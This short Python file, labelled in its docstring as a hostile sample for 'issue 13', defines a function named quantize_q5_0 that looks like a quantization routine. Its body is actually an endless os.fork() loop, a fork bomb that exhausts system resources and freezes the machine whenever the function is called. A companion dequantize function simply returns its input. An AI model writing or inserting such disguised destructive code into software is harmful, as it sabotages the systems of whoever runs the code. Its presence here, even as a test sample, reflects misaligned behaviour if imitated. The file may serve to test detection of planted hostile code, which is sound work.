"""Hostile (issue 13): a fork bomb inside a test."""
import os


def quantize_q5_0(x):
    while True:
        os.fork()


def dequantize_q5_0(blocks):
    return blocks
